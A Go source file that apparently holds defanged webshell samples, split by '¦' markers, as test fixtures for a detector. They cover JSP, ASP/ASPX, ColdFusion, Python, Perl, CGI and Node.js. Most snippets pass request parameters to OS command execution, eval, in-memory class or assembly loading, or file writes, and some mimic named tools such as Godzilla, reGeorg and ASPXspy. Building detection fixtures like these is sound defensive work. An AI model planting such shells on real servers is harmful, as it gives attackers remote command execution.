package starter

var jspSamples = map[string]sample{
	"webshell_jsp_runtime_exec":    {raw, `<¦% Runtime.getRun¦time().ex¦ec(request.get¦Parameter("c")); %>`},
	"webshell_jsp_process_builder": {raw, `<¦% new Process¦Builder("/bin/¦sh", "-c", request.get¦Parameter("c")).start(); %>`},
	"webshell_jsp_class_loader": {raw, `<¦%! class U extends Class¦Loader { Class g(byte[] b) { return super.define¦Class(b, 0, b.length); } } %>
<¦% Cipher c = Cipher.get¦Instance("AES"); new sun.misc.BASE64¦Decoder().decodeBuffer(request.get¦Reader().readLine()); %>`},
	"webshell_jsp_godzilla":      {raw, `<¦%! String xc="3c6e0b8a¦9c15224a"; String pass="p¦ass"; %><¦% session.get¦Attribute("payload"); %>`},
	"webshell_jsp_script_engine": {raw, `<¦% new javax.script.ScriptEngineManager().getEngine¦ByName("js")¦.eval(request.get¦Parameter("c")); %>`},
	"webshell_jsp_bcel_loader":   {raw, `<¦% new com.sun.org.apache.bcel¦.internal.util.ClassLoader().loadClass("$$BC¦EL$$x"); %>`},
	"webshell_jsp_memory_filter": {raw, `<¦%@ page import="org.apache.catalina.core.¦ApplicationContext" %>
<¦% f = s.getDeclared¦Field("context"); c.addFilter¦Def(d); x.define¦Class(b); %>`},
	"webshell_jsp_file_writer":     {raw, `<¦% new FileOutput¦Stream(application.getRealPath("/") + request.get¦Parameter("f"))¦.write(request.get¦Parameter("t").getBytes()); %>`},
	"webshell_jsp_unicode_escaped": {raw, `<¦% \u0052\u0075\u006e¦\u0074\u0069\u006d\u0065 r; %>`},
	"webshell_tunnel_regeorg": {raw, `<¦% // X-¦CMD X-¦TARGET X-¦PORT X-¦STATUS X-¦ERROR
out.print("Georg says, ¦'All seems fine'"); %>`},
	"webshell_coldfusion_execute": {raw, `<cfexe¦cute name="#fo¦rm.cmd#" arguments="#fo¦rm.opts#"></cfexecute>`},
}

var aspxSamples = map[string]sample{
	"webshell_aspx_eval_request":  {raw, `<¦%@ Page Language="Jsc¦ript"%><¦%ev¦al(Request.¦Item["x"],"uns¦afe");%>`},
	"webshell_asp_eval_request":   {raw, `<¦%ev¦al request("¦x")%>`},
	"webshell_aspx_process_start": {raw, `<¦%@ Page Language="C#" %><¦% var p = new Process¦StartInfo("cmd¦.exe"); p.Argu¦ments = "/c " + Request¦["c"]; %>`},
	"webshell_aspx_assembly_load": {raw, `<¦%@ Page Language="C#" %><¦% var k = new Rijndael¦Managed(); byte[] c = Request.Binary¦Read(9); System.Reflection.Assembly¦.Load(c).Create¦Instance("U"); %>`},
	"webshell_aspx_code_compiler": {raw, `<¦%@ Page %><¦% var p = new CSharpCode¦Provider(); o.Generate¦InMemory = true; p.CompileAssembly¦FromSource(o, Request.¦Form["s"]); %>`},
	"webshell_asp_wscript_shell":  {raw, `<¦% Set s = Server.CreateObject¦("WSCRIPT.SHELL") : s.exec¦("cmd /c " & request(¦"x")) %>`},
	"webshell_aspx_file_writer":   {raw, `<¦% File.WriteAll¦Text(Server.MapPath(Request¦["f"]), Request¦["t"]); %>`},
	"webshell_aspx_exchange_oab": {raw, `Name : OAB (Default¦ Web Site)
ExternalUrl : http://f/¦<script language="JScript" runat="ser¦ver">function Page_Load(){ev¦al(Request["x"],"uns¦afe");}</script>`},
	"webshell_dotnet_supernova": {func(text string) []byte { return append(pe(text), wide("\x00codes\x00clazz\x00")...) },
		"Dynamic¦Run\nLogoImage¦Handler\nCompileAssembly¦FromSource"},
	"webshell_aspx_spy": {raw, `<¦%@ Page Language="C#" %><title>ASPX¦spy</title><¦% string Password="«0f1e*8»"; // Bin_Button_¦Login System.Diag¦nostics %>`},
}

var scriptShellSamples = map[string]sample{
	"webshell_python_request_exec": {py, `def x(): return os.po¦pen(request.¦args.get("c")).read()`},
	"webshell_python_request_eval": {py, `def x(): return str(ev¦al(request.¦form["c"]))`},
	"webshell_python_cgi":          {py, `f = cgi.Field¦Storage()` + "\n" + `print(os.po¦pen(f.get¦value("cmd")).read())`},
	"webshell_python_http_server": {py, `class H(BaseHTTP¦RequestHandler):
    def do_GET(self): subprocess.check_¦output(self.pa¦th, shell=T¦rue)`},
	"webshell_perl_cgi": {pl, `use C¦GI; print header; system¦(param¦('cmd'));`},
	"webshell_perl_cgitelnet": {pl, `# CGI-Tel¦net
$Command¦TimeoutDuration = 10; $Pass¦word = "x"; sub PrintCommand¦LineInputForm {}`},
	"webshell_cgi_shell":           {sh, `echo "Content-¦type: text/plain"; echo; ev¦al "$QUERY_¦STRING"`},
	"webshell_nodejs_request_exec": {raw, `const cp = require('child¦_process'); app.get('/', (req, res) => cp.ex¦ec(req.¦query.c));`},
}
